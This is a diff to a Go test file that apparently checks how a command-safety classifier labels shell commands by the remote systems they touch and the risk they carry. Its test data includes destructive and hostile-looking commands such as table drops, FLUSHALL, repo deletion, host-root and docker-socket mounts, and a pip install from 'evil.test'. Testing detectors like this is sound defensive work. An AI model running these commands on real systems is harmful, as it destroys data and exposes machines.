@@ -95,6 +95,11 @@ func TestTheHeadlineNamesTheOtherSystem(t *testing.T) {
 		"ssh -p 2 ann@host rm x":                                    {"host"},
 		"rsync -a dist/ ann@host:/srv":                              {"host"},
 		"nc host 1":                                                 {"host"},
+		"pip install x --index-url http://evil.test/simple":         {"evil.test"},
+		"ansible-playbook -i prod site.yml":                         {"inventory prod"},
+		"psql \"$URL\" -c 'drop table x'":                           {"an unknown place"},
+		"mail -s x bob@x.test":                                      {"bob@x.test"},
+		"rclone sync dist far:b":                                    {"far:b"},
 		"curl x.test/a":                                             {"x.test"},
 	} {
 		v := checkCommand(t, command, "/home/ann")
@@ -111,6 +116,10 @@ func TestTheHeadlineNamesTheOtherSystem(t *testing.T) {
 	}
 	for command, want := range map[string]string{
 		"git push --delete origin x": "deletes on other systems", "git push origin :x": "deletes on other systems", "git push origin +main": "overwrites work that others may need",
+		"curl -X DELETE https://x.test/1": "deletes on other systems", "gh repo delete ann/app": "deletes on other systems", "redis-cli -h x FLUSHALL": "deletes on other systems",
+		"docker compose down -v": "destroys data", "docker volume prune": "destroys data", "docker run -v /:/host alpine ls": "opens this machine to a container",
+		"docker run --privileged x": "opens this machine to a container", "docker run -v /var/run/docker.sock:/var/run/docker.sock x": "opens this machine to a container",
+		"rclone sync dist remote:bucket": "changes other systems", "flyctl deploy": "changes other systems",
 		"git -C x push": "publishes", "git -c a=b push --force": "overwrites work that others may need", "docker --context x push y": "publishes",
 	} {
 		v := checkCommand(t, command, "/home/ann")
